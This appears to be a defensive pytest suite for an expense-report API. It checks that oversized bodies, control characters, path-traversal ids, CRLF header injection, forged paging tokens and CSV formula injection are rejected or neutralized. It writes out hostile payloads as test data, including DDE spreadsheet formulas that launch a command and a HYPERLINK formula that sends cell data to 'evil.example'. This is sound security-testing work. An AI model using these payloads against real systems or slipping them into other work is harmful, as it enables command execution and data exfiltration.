"""Hostile input: every body route and id answers a clear 4xx problem+json, never a 5xx, and stores nothing.

Oversized and deeply nested bodies, wrong content types, unicode and control characters, path traversal in
ids, 40-digit amounts, spreadsheet formulas (which `?format=csv` must neutralize) and 5,001-line imports.
"""

from __future__ import annotations

import csv
import io
import uuid

import pytest
import requests

from chalicelib import paging
from tests.driver import Driver
from tests.hardening.common import assert_problem
from tests.support import drain, seed_body

MiB = 1024 * 1024
LINE = {"lineId": "tx-1", "date": "2026-01-15", "vendor": "UBER *TRIP", "amount": "23.50", "currency": "USD",
        "description": "ride"}


class Caller(Driver):
    """One fresh user, through the in-process Chalice client."""

    def rejected(self, response, status: int) -> dict:
        assert response.status_code < 500, response.body[:300]
        return assert_problem(response.status_code, response.headers, response.body, status)

    def report(self, **fields: object) -> str:
        report_id = f"r-{uuid.uuid4().hex[:12]}"
        body = {"reportId": report_id, "name": "Hostile", "deliveryTargets": [{"type": "api", "mode": "async"}],
                **fields}
        assert self.send("POST", "/api/v1/reports", body).status_code == 201
        return report_id

    def lines(self, period: str = "2026-01") -> list[dict]:
        response = self.client.http.get(f"/api/v1/expenses?period={period}&pageSize=1000", headers=self.token.headers)
        assert response.status_code == 200
        return response.json_body["items"]

    def jobs(self) -> list[dict]:
        return self.client.http.get("/api/v1/jobs?pageSize=100", headers=self.token.headers).json_body["items"]

    def nothing_stored(self, report_id: str | None = None) -> None:
        assert self.lines() == [] and self.jobs() == []
        if report_id:
            got = self.client.http.get(f"/api/v1/reports/{report_id}", headers=self.token.headers)
            assert got.status_code == 404


@pytest.fixture
def me(client, token_for) -> Caller:
    return Caller(client, token_for())


# --- size, depth, content type -------------------------------------------------------------------------------

BODY_ROUTES = [("POST", "/api/v1/reports"), ("POST", "/api/v1/expenses"), ("POST", "/api/v1/reports/{r}/generate"),
               ("PATCH", "/api/v1/jobs/{j}/lines/tx-1")]


def _path(template: str, me: Caller) -> str:
    return template.format(r=me.report(), j=uuid.uuid4())


@pytest.mark.parametrize("method,template", BODY_ROUTES)
def test_oversized_body_is_413_on_every_body_route_and_stores_nothing(me, method, template):
    path = _path(template, me)
    padded = '{"lines": [], "name": "' + "x" * (6 * MiB + 1) + '"}'
    me.rejected(me.send(method, path, padded), 413)
    me.nothing_stored()


@pytest.mark.parametrize("depth", [21, 1000, 100_000])
@pytest.mark.parametrize("method,template", BODY_ROUTES)
def test_deeply_nested_json_is_400_on_every_body_route(me, method, template, depth):
    path = _path(template, me)
    for nested in ("[" * depth + "]" * depth, '{"a":' * depth + "1" + "}" * depth):
        me.rejected(me.send(method, path, nested), 400)
    me.nothing_stored()


@pytest.mark.parametrize("content_type", ["text/plain", "application/xml", "multipart/form-data; boundary=x",
                                          "application/x-www-form-urlencoded", "application/json-patch+json",
                                          "image/png"])
@pytest.mark.parametrize("method,template", BODY_ROUTES)
def test_wrong_content_type_is_415_on_every_body_route(me, method, template, content_type):
    path = _path(template, me)
    body = {"lines": [LINE]} if "expenses" in template else {"period": "2026-01"}
    me.rejected(me.send(method, path, body, content_type), 415)
    me.nothing_stored()


@pytest.mark.parametrize("raw", [b"\xff\xfe{\x00}\x00", b'{"name": "\xc3\x28"}', b"\x00" * 64, b"null", b"[]",
                                 b'"just a string"', b"1e999999", b"NaN", b'{"a": Infinity}', b"{" * 10])
def test_undecodable_or_non_object_json_is_400(me, raw):
    report_id = me.report()
    for method, path in [("POST", "/api/v1/reports"), ("POST", "/api/v1/expenses"),
                         ("POST", f"/api/v1/reports/{report_id}/generate")]:
        response = me.send(method, path, raw)
        if raw == b"null" and path.endswith("/generate"):
            # A JSON null body is the optional body left out: the current month, which has no lines here.
            me.rejected(response, 422)
            continue
        me.rejected(response, 400)
    assert me.lines() == []


# --- unicode, control characters, ids -----------------------------------------------------------------------

CONTROL = ["\x00", "a\x00b", "\x1b[2J\x1b[31mred", "line\nbreak", "tab\there", "\u202eevil", "zero\u200bwidth",
           "\ud800", "\u2028", "bell\x07", "\x7f"]


@pytest.mark.parametrize("text", CONTROL)
def test_control_characters_in_vendors_descriptions_and_names_are_400_and_store_nothing(me, text):
    for field in ("vendor", "description"):
        line = {**LINE, field: f"UBER {text}"}
        assert me.rejected(me.send("POST", "/api/v1/expenses", {"lines": [LINE, line]}), 400)["field"] == field
    report_id = f"r-{uuid.uuid4().hex[:12]}"
    body = {"reportId": report_id, "name": f"Name {text}", "deliveryTargets": [{"type": "api", "mode": "async"}]}
    me.rejected(me.send("POST", "/api/v1/reports", body), 400)
    me.rejected(me.send("POST", "/api/v1/reports", {**body, "name": "ok", "categories": [f"Cat {text}"]}), 400)
    me.nothing_stored(report_id)


def test_printable_unicode_vendors_round_trip_exactly_through_import_report_and_csv(me):
    vendors = ["Caf\u00e9 M\u00fcnchen", "\u6771\u4eac\u30bf\u30ef\u30fc", "\u2615 Coffee \U0001f600",
               "\u0645\u0637\u0639\u0645", "O'Brien \"Pub\", Ltd."]
    lines = [{**LINE, "lineId": f"tx-{i}", "vendor": v} for i, v in enumerate(vendors)]
    assert me.send("POST", "/api/v1/expenses", {"lines": lines}).status_code == 201
    assert [line["vendor"] for line in me.lines()] == vendors
    job_id = me.send("POST", f"/api/v1/reports/{me.report()}/generate", {"period": "2026-01"}).json_body["jobId"]
    drain({job_id})
    result = me.send("GET", f"/api/v1/jobs/{job_id}/result")
    assert result.status_code == 200
    assert sorted(line["vendor"] for line in result.json_body["lines"]) == sorted(vendors)
    exported = me.send("GET", f"/api/v1/jobs/{job_id}/result?format=csv")
    rows = list(csv.DictReader(io.StringIO(exported.body.decode("utf-8"))))
    assert sorted(row["vendor"] for row in rows) == sorted(vendors)


BAD_LINE_IDS = ["tx-\u00e9", "../../etc/passwd", "..", "a/b", "a\\b", "%2e%2e%2f", "tx 1", "tx\x00", "-tx", "x" * 129,
                "tx-1\n", "\uff54\uff58"]


@pytest.mark.parametrize("line_id", BAD_LINE_IDS)
def test_hostile_line_ids_are_400_in_json_and_csv_and_store_nothing(me, line_id):
    problem = me.rejected(me.send("POST", "/api/v1/expenses", {"lines": [LINE, {**LINE, "lineId": line_id}]}), 400)
    assert problem["field"] == "lineId"
    quoted = '"' + line_id.replace('"', '""') + '"'
    text = f"lineId,date,vendor,amount,currency\ntx-9,2026-01-02,Cafe,1.00,USD\n{quoted},2026-01-02,Cafe,1.00,USD\n"
    me.rejected(me.send("POST", "/api/v1/expenses", text, "text/csv"), 400)
    me.nothing_stored()


@pytest.mark.parametrize("report_id", ["../reports", "R-UPPER", "r-\u00e9t\u00e9", "r-1/../../x", "r" * 65, "r-1\n",
                                       "\uff52-full"])
def test_hostile_report_ids_in_a_body_are_400_and_store_nothing(me, report_id):
    body = {"reportId": report_id, "name": "x", "deliveryTargets": [{"type": "api", "mode": "async"}]}
    assert me.rejected(me.send("POST", "/api/v1/reports", body), 400)["field"] == "reportId"


TRAVERSALS = ["..%2F..%2Fetc%2Fpasswd", "%2e%2e", "..%5C..%5Cwindows", "%00", "%E2%80%AE", "%F0%9F%98%80",
              "x" * 300, "%25%32%65", "job%0d%0aX-Injected:1", "*", "%20"]


@pytest.mark.parametrize("segment", TRAVERSALS)
def test_hostile_ids_in_paths_are_404_everywhere(me, segment):
    report_id = me.report()
    assert me.send("POST", "/api/v1/expenses", seed_body()).status_code == 201  # no lines: no job (422)
    job_id = me.send("POST", f"/api/v1/reports/{report_id}/generate", {"period": "2026-01"}).json_body["jobId"]
    paths = [("GET", f"/api/v1/jobs/{segment}"), ("DELETE", f"/api/v1/jobs/{segment}"),
             ("POST", f"/api/v1/jobs/{segment}/retry"), ("GET", f"/api/v1/jobs/{segment}/result"),
             ("GET", f"/api/v1/jobs/{segment}/events"), ("GET", f"/api/v1/reports/{segment}"),
             ("PATCH", f"/api/v1/jobs/{segment}/lines/tx-1"), ("PATCH", f"/api/v1/jobs/{job_id}/lines/{segment}")]
    for method, path in paths:
        body = {"category": "Other"} if method == "PATCH" else None
        response = me.send(method, path, body)
        # No job has such an id: 404. The last path names the caller's own job, which is Queued: no line of it
        # can be settled yet, whatever the line (409).
        expected = 409 if path.startswith(f"/api/v1/jobs/{job_id}/") else 404
        assert_problem(response.status_code, response.headers, response.body, expected)
    generate = me.send("POST", f"/api/v1/reports/{segment}/generate", {"period": "2026-01"})
    assert_problem(generate.status_code, generate.headers, generate.body, 404)
    assert [j["jobId"] for j in me.jobs()] == [job_id]  # the job was neither cancelled nor changed
    assert me.jobs()[0]["status"] == "Queued"


@pytest.mark.parametrize("segment", ["..%2F..%2Fetc%2Fpasswd", "%2e%2e", "%00", "%F0%9F%98%80", "x" * 2000])
def test_hostile_ids_in_paths_are_4xx_problem_json_through_chalice_local(api_stack, token_for, segment):
    headers = token_for().headers
    for path in (f"/api/v1/jobs/{segment}", f"/api/v1/jobs/{segment}/events", f"/api/v1/reports/{segment}"):
        response = requests.get(api_stack + path, headers=headers, timeout=10)
        assert 400 <= response.status_code < 500, (path, response.status_code, response.text[:200])
        assert_problem(response.status_code, dict(response.headers), response.content, response.status_code)


# --- amounts, dates, periods ---------------------------------------------------------------------------------

BAD_AMOUNTS = ["1234567890123456789012345678901234567890", "1" + "0" * 39 + ".00", "0." + "1" * 40, "1e400", "1E5",
               "NaN", "Infinity", "-Infinity", "0x10", "1_000", "1,00", "--1", "+1", ".5", "5.", "", " ",
               "\u0661\u0662", "\uff11\uff12.\uff13\uff14", "12.34\x00", 23.12345, 10 ** 40, 1e300, -1e-5, None, True,
               False, ["1"], {"v": "1"}]


@pytest.mark.parametrize("amount", BAD_AMOUNTS, ids=repr)
def test_hostile_amounts_are_400_and_store_nothing(me, amount):
    line = {**LINE, "lineId": "tx-2", "amount": amount}
    assert me.rejected(me.send("POST", "/api/v1/expenses", {"lines": [LINE, line]}), 400)["field"] == "amount"
    me.nothing_stored()


@pytest.mark.parametrize("period", ["\u0662\u0660\u0662\u0666-01", "\uff12\uff10\uff12\uff16-01", "2026-01\n",
                                    "2026-00", "0000-01x", "2026-1", "../2026-01", 202601, None, ["2026-01"]], ids=repr)
def test_hostile_periods_are_400_and_create_no_job(me, period):
    report_id = me.report()
    assert me.rejected(me.send("POST", f"/api/v1/reports/{report_id}/generate", {"period": period}),
                       400)["field"] == "period"
    assert me.jobs() == []


# --- CSV formula injection ---------------------------------------------------------------------------------

FORMULAS = ["=cmd|' /C calc'!A0", "+SUM(1+1)*cmd|' /C calc'!A0", "-2+3+cmd|' /C calc'!A0", "@SUM(1+1)",
            '=HYPERLINK("http://evil.example/?x="&A1,"click")', "=1+1", "+1", "-1", "@x"]


def _assert_no_live_formula(rows: list[dict[str, str]]) -> None:
    for row in rows:
        for column, cell in row.items():
            if column != "amount":  # a negative number is data, not a formula
                assert not cell.startswith(("=", "+", "-", "@", "\t", "\r")), (column, cell)


def test_formula_cells_are_neutralized_in_the_csv_export_and_kept_verbatim_in_json(me):
    lines = [{**LINE, "lineId": f"tx-{i}", "vendor": f, "description": f, "amount": f"-{i}.25"}
             for i, f in enumerate(FORMULAS)]
    assert me.send("POST", "/api/v1/expenses", {"lines": lines}).status_code == 201
    report_id = me.report(categories=["=EVIL()", "+Travel", "Other"])
    job_id = me.send("POST", f"/api/v1/reports/{report_id}/generate", {"period": "2026-01"}).json_body["jobId"]
    drain({job_id})
    settled = me.send("PATCH", f"/api/v1/jobs/{job_id}/lines/tx-0", {"category": "=EVIL()"})
    assert settled.status_code == 200 and settled.json_body["category"] == "=EVIL()"
    result = me.send("GET", f"/api/v1/jobs/{job_id}/result").json_body
    assert sorted(line["vendor"] for line in result["lines"]) == sorted(FORMULAS)  # JSON keeps the data as is
    exported = me.send("GET", f"/api/v1/jobs/{job_id}/result?format=csv")
    assert exported.status_code == 200
    rows = list(csv.DictReader(io.StringIO(exported.body.decode("utf-8"))))
    assert len(rows) == len(FORMULAS)
    _assert_no_live_formula(rows)
    by_id = {row["lineId"]: row for row in rows}
    assert by_id["tx-0"]["vendor"] == "'" + FORMULAS[0] and by_id["tx-0"]["category"] == "'=EVIL()"
    assert by_id["tx-0"]["description"] == "'" + FORMULAS[0]
    assert by_id["tx-3"]["amount"] == "-3.25"


def test_formula_cells_imported_as_csv_are_neutralized_on_export(me):
    out = io.StringIO()
    writer = csv.writer(out)
    writer.writerow(["lineId", "date", "vendor", "amount", "currency", "description"])
    for i, formula in enumerate(FORMULAS):
        writer.writerow([f"tx-{i}", "2026-01-03", formula, "1.00", "USD", formula])
    assert me.send("POST", "/api/v1/expenses", out.getvalue(), "text/csv").status_code == 201
    job_id = me.send("POST", f"/api/v1/reports/{me.report()}/generate", {"period": "2026-01"}).json_body["jobId"]
    drain({job_id})
    exported = me.send("GET", f"/api/v1/jobs/{job_id}/result?format=csv")
    _assert_no_live_formula(list(csv.DictReader(io.StringIO(exported.body.decode("utf-8")))))


# --- imports past the limit ---------------------------------------------------------------------------------


def test_5001_line_json_import_is_400_and_stores_nothing(me):
    lines = [{**LINE, "lineId": f"tx-{i:05d}"} for i in range(5001)]
    assert me.rejected(me.send("POST", "/api/v1/expenses", {"lines": lines}), 400)["field"] == "lines"
    me.nothing_stored()


def test_5001_line_csv_import_is_400_and_stores_nothing(me):
    rows = "".join(f"tx-{i:05d},2026-01-15,Cafe {i},{i}.00,USD,lunch\n" for i in range(5001))
    response = me.send("POST", "/api/v1/expenses", "lineId,date,vendor,amount,currency,description\n" + rows,
                       "text/csv")
    assert "5000" in me.rejected(response, 400)["detail"]
    me.nothing_stored()


def test_an_import_whose_last_line_is_bad_stores_none_of_the_others(me):
    rows = [f"tx-{i:05d},2026-01-15,Cafe {i},{i}.00,USD,lunch" for i in range(4999)]
    rows.append("tx-99999,2026-01-15,=cmd|' /C calc'!A0," + "9" * 40 + ",USD,lunch")
    response = me.send("POST", "/api/v1/expenses", "lineId,date,vendor,amount,currency,description\n" +
                       "\n".join(rows), "text/csv")
    assert me.rejected(response, 400)["field"] == "amount"
    me.nothing_stored()


# --- queries, headers ---------------------------------------------------------------------------------------


@pytest.mark.parametrize("query", ["pageSize=1e3", "pageSize=-1", "pageSize=%00", "pageSize=" + "9" * 50,
                                   "page=0", "page=" + "9" * 40, "status=Completed%00", "status=" + "x" * 5000,
                                   "nextToken=" + "A" * 5000, "nextToken=%FF%FE", "nextToken=W10",
                                   "nextToken=" + paging.encode({"jobId": "x", "createdAt": "y", "page": "1"})])
def test_hostile_list_queries_are_400_not_500(me, query):
    me.rejected(me.send("GET", f"/api/v1/jobs?{query}"), 400)


def test_forged_next_tokens_never_reach_another_users_items(me, token_for, client):
    other = Caller(client, token_for())
    assert other.send("POST", "/api/v1/expenses", {"lines": [LINE]}).status_code == 201
    other_job = other.send("POST", f"/api/v1/reports/{other.report()}/generate", {"period": "2026-01"}).json_body
    # An empty lineId is no key DynamoDB takes (it would refuse the read): not a token this API issued.
    forged_lines = paging.encode({"lineId": ""})
    response = me.send("GET", f"/api/v1/expenses?period=2026-01&nextToken={forged_lines}")
    assert me.rejected(response, 400)["field"] == "nextToken" and b"UBER" not in response.body
    # A well-formed jobs cursor naming someone else's job only positions the caller's own list: an empty page.
    forged_jobs = paging.encode({"jobId": other_job["jobId"], "createdAt": "9999", "page": 1})
    response = me.send("GET", f"/api/v1/jobs?nextToken={forged_jobs}")
    assert response.status_code == 200 and response.json_body["items"] == []
    assert other_job["jobId"].encode() not in response.body


@pytest.mark.parametrize("key", ["k" * 256, "caf\u00e9", "tab\tkey", "", "new\nline"])
def test_hostile_idempotency_keys_are_400_and_create_no_job(me, key):
    report_id = me.report()
    response = me.send("POST", f"/api/v1/reports/{report_id}/generate", {"period": "2026-01"},
                       **{"Idempotency-Key": key})
    # The contract: an empty key is invalid (400), as the OpenAPI document says; a header sent empty arrives
    # empty (it is not the header left out).
    assert me.rejected(response, 400)["field"] == "Idempotency-Key"
    assert me.jobs() == []


def test_oversized_body_through_chalice_local_is_413(api_stack, token_for):
    padded = '{"lines": [], "name": "' + "x" * (6 * MiB + 1) + '"}'
    response = requests.post(f"{api_stack}/api/v1/expenses", data=padded, timeout=30,
                             headers={**token_for().headers, "Content-Type": "application/json"})
    assert_problem(response.status_code, dict(response.headers), response.content, 413)
